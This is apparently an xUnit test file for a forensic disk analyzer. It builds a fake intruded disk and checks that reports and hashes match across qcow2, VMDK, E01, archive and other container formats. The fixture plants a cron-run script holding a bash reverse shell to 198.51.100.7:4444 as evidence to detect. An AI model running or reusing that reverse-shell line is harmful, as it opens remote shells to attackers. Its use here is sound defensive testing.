using System.Security.Cryptography;
using System.Text.Json.Nodes;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>One disk of an intruded machine, made once.</summary>
public sealed class SameDisk : IDisposable
{
    private readonly Machine _machine = new();

    public SameDisk()
    {
        const string root = "11111111-1111-4111-8111-111111111111";
        const string var = "22222222-2222-4222-8222-222222222222";
        string first = _machine.Ext4("root", root, null,
            [.. Machine.System("web", $"UUID={var} /var ext4\n"), ("etc/cron.d/job", "* * * * * root /usr/bin/job\n"), ("usr/bin/job", "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"), ("data", Noise(300_000))]);
        string second = _machine.Ext4("var", var, null, [("spool/cron/crontabs/root", Machine.EvilJob), ("zeros", new string('\0', 100_000))]);
        // A whole number of MiB: some containers round the size up to their own unit.
        Raw = _machine.Disk("disk.raw", "label: gpt", (first, ""), (second, ""));
        Sha256 = Convert.ToHexStringLower(SHA256.HashData(File.ReadAllBytes(Raw)));
        Expected = SameDiskTests.WithoutContainer(Raw);
    }

    public string Raw { get; }

    public string Sha256 { get; }

    /// <summary>The report but for what the container says.</summary>
    public string Expected { get; }

    public void Dispose() => _machine.Dispose();

    private static string Noise(int length) => Convert.ToBase64String(Enumerable.Range(0, length).Select(i => (byte)(i * 2654435761L >> 7)).ToArray());
}

/// <summary>The same disk in every container that can be made here: the report is that of the raw disk, and so is the digest.</summary>
public sealed class SameDiskTests(SameDisk disk) : IClassFixture<SameDisk>
{
    /// <summary>Recipes of the shell: <c>$raw</c> is the disk, the working directory is empty; the images in the order of arguments are those that IMAGES names.</summary>
    public static TheoryData<string, string, string> Recipes { get; } = new()
    {
        { "qcow2", "qemu-img convert -O qcow2 $raw d.qcow2", "d.qcow2" },
        { "qcow2 of small clusters", "qemu-img convert -O qcow2 -o cluster_size=512 $raw d", "d" },
        { "qcow2 with extended entries", "qemu-img convert -O qcow2 -o cluster_size=16k,extended_l2=on $raw d", "d" },
        { "qcow2 compressed", "qemu-img convert -c -O qcow2 $raw d", "d" },
        { "qcow2 compressed with zstd", "qemu-img convert -c -O qcow2 -o compression_type=zstd $raw d", "d" },
        { "qcow2 version 2", "qemu-img convert -O qcow2 -o compat=0.10 $raw d", "d" },
        { "qcow2 with an internal snapshot", "qemu-img convert -O qcow2 $raw d && qemu-img snapshot -c s1 d", "d" },
        { "qcow2 over a backing file", "cp $raw base.raw && qemu-img create -q -f qcow2 -b base.raw -F raw d", "d" },
        { "qcow", "qemu-img convert -O qcow $raw d", "d" },
        { "QED", "qemu-img convert -O qed $raw d", "d" },
        { "Parallels", "qemu-img convert -O parallels $raw d", "d" },
        { "VDI", "qemu-img convert -O vdi $raw d", "d" },
        { "VDI static", "qemu-img convert -O vdi -o static=on $raw d", "d" },
        { "VHD dynamic", "qemu-img convert -O vpc -o force_size=on $raw d", "d" },
        { "VHD fixed", "qemu-img convert -O vpc -o subformat=fixed,force_size=on $raw d", "d" },
        { "VHDX dynamic", "qemu-img convert -O vhdx $raw d", "d" },
        { "VHDX fixed", "qemu-img convert -O vhdx -o subformat=fixed $raw d", "d" },
        { "VMDK sparse", "qemu-img convert -O vmdk $raw d.vmdk", "d.vmdk" },
        { "VMDK flat", "qemu-img convert -O vmdk -o subformat=monolithicFlat $raw d.vmdk", "d.vmdk" },
        { "VMDK in sparse parts", "qemu-img convert -O vmdk -o subformat=twoGbMaxExtentSparse $raw d.vmdk", "d.vmdk" },
        { "VMDK in flat parts", "qemu-img convert -O vmdk -o subformat=twoGbMaxExtentFlat $raw d.vmdk", "d.vmdk" },
        { "VMDK stream-optimized", "qemu-img convert -O vmdk -o subformat=streamOptimized $raw d.vmdk", "d.vmdk" },
        { "E01", "ewfacquire -q -u -c deflate:best -t d $raw >/dev/null 2>&1", "d.E01" },
        { "E01 in segments", "ewfacquire -q -u -c none -S 1MiB -t d $raw >/dev/null 2>&1", "d.E01" },
        { "E01 with all segments named", "ewfacquire -q -u -c none -S 4MiB -t d $raw >/dev/null 2>&1", "d.E*" },
        { "split raw", "split -b 5M -a 3 --numeric-suffixes=1 $raw d.", "d.001" },
        { "split raw from zero with all parts named", "split -b 5M -a 3 -d $raw d.", "d.00*" },
        { "gzip", "gzip -c $raw >d.gz", "d.gz" },
        { "xz", "xz -c $raw >d.xz", "d.xz" },
        { "zstd", "zstd -q -c $raw >d.zst", "d.zst" },
        { "bzip2", "bzip2 -c $raw >d.bz2", "d.bz2" },
        { "gzip of a qcow2", "qemu-img convert -O qcow2 $raw q && gzip -c q >d.gz", "d.gz" },
        { "tar", "cp $raw disk.raw && tar -cf d.tar disk.raw", "d.tar" },
        { "sparse tar.gz as Google exports it", "cp $raw disk.raw && fallocate -d disk.raw && tar --format=oldgnu -Sczf d.tar.gz disk.raw", "d.tar.gz" },
        { "sparse PAX tar.xz", "cp $raw disk.raw && fallocate -d disk.raw && tar --format=pax --sparse-version=1.0 -ScJf d.tar.xz disk.raw", "d.tar.xz" },
        { "tar.zst", "cp $raw disk.raw && tar -cf - disk.raw | zstd -q >d.tar.zst", "d.tar.zst" },
        { "zip", "cp $raw disk.raw && zip -q d.zip disk.raw", "d.zip" },
        { "7z", "cp $raw disk.raw && 7z a -bso0 -bsp0 d.7z disk.raw", "d.7z" },
        { "OVA", "qemu-img convert -O vmdk -o subformat=streamOptimized $raw d-disk1.vmdk && printf '<?xml version=\"1.0\"?><Envelope xmlns:ovf=\"http://schemas.dmtf.org/ovf/envelope/1\"><References><File ovf:href=\"d-disk1.vmdk\" ovf:id=\"file1\"/></References><DiskSection><Disk ovf:diskId=\"vmdisk1\" ovf:fileRef=\"file1\"/></DiskSection></Envelope>' >d.ovf && tar --format=ustar -cf d.ova d.ovf d-disk1.vmdk", "d.ova" },
    };

    [Theory]
    [MemberData(nameof(Recipes))]
    public void The_report_and_the_digest_are_those_of_the_raw_disk(string container, string recipe, string images)
    {
        using var machine = new Machine();
        Machine.Run("bash", ["-ec", recipe], null, machine.Folder, ("raw", disk.Raw));
        string[] paths = [.. Directory.GetFiles(machine.Folder, images).Order(StringComparer.Ordinal)];

        JsonNode info = JsonNode.Parse(Deadbox.Text(["info", .. paths, "--hash", "sha256", "--format", "json"]))!;
        Assert.Equal((disk.Sha256, container), ((string?)info["image"]!["hashes"]![0]!["sha256"], container));
        Assert.Equal(disk.Expected, WithoutContainer(paths));
    }

    [Theory]
    [InlineData("sha256")]
    [InlineData("md5,sha1,sha256")]
    public void Digests_are_those_of_the_system_tools(string algorithms)
    {
        using var machine = new Machine();
        Machine.Run("bash", ["-ec", "qemu-img convert -O qcow2 $raw d.qcow2 && qemu-img create -q -f raw empty 5G"], null, machine.Folder, ("raw", disk.Raw));
        JsonNode image = JsonNode.Parse(Deadbox.Text("info", machine.At("d.qcow2"), "--hash", algorithms, "--evidence-hash", algorithms, "--format", "json"))!["image"]!;
        foreach (string algorithm in algorithms.Split(','))
        {
            Assert.Equal(Machine.Run(algorithm + "sum", [disk.Raw]).Split(' ')[0], (string?)image["hashes"]![0]![algorithm]);
            Assert.Equal(Machine.Run(algorithm + "sum", [machine.At("d.qcow2")]).Split(' ')[0], (string?)image["evidenceHashes"]![0]![algorithm]);
        }
        Assert.Contains(Machine.Run("sha256sum", [disk.Raw]).Split(' ')[0] + "  disk", Deadbox.Text("info", machine.At("d.qcow2"), "--hash", "sha256"), StringComparison.Ordinal);
    }

    [Fact]
    public void A_digest_that_the_image_carries_is_verified()
    {
        using var machine = new Machine();
        Machine.Run("bash", ["-ec", "ewfacquire -q -u -c none -d sha1 -t d $raw >/dev/null 2>&1"], null, machine.Folder, ("raw", disk.Raw));
        string image = machine.At("d.E01");
        JsonNode checks = JsonNode.Parse(Deadbox.Text("info", image, "--verify-evidence", "--format", "json"))!["image"]!["verification"]!;
        Assert.Equal(["md5", "sha1"], checks.AsArray().Select(check => (string)check!["algorithm"]!).Order(StringComparer.Ordinal));
        Assert.All(checks.AsArray(), check => Assert.True((bool)check!["matches"]!));
        Assert.Equal(0, Deadbox.Run("scan", image, "--verify-evidence", "-q").Code);
        Assert.Contains("carries no digest", Deadbox.Run("scan", disk.Raw, "--verify-evidence").Error, StringComparison.Ordinal);

        // One byte of the disk: the checksum of the chunk and the digests no longer fit.
        byte[] bytes = File.ReadAllBytes(image);
        int place = bytes.AsSpan().IndexOf("198.51.100.7"u8);
        bytes[place]++;
        File.WriteAllBytes(image, bytes);
        foreach (string verb in new[] { "info", "scan" })
        {
            (int code, byte[] output, string error) = Deadbox.Run(verb, image, "--verify-evidence", "--format", "json");
            Assert.Equal(5, code);
            Assert.Contains("not what the digest stored", error, StringComparison.Ordinal);
            Assert.Contains("\"matches\": false", System.Text.Encoding.UTF8.GetString(output), StringComparison.Ordinal);
        }
    }

    /// <summary>A report without image, run, and the sizes of the image file that stand in it.</summary>
    internal static string WithoutContainer(params string[] images)
    {
        JsonObject report = Deadbox.Scan(images[0], images[1..]).Report;
        string volumes = report["image"]!["volumes"]!.ToJsonString();
        foreach (string part in new[] { "image", "run" })
        {
            report.Remove(part);
        }
        return volumes + report.ToJsonString();
    }
}
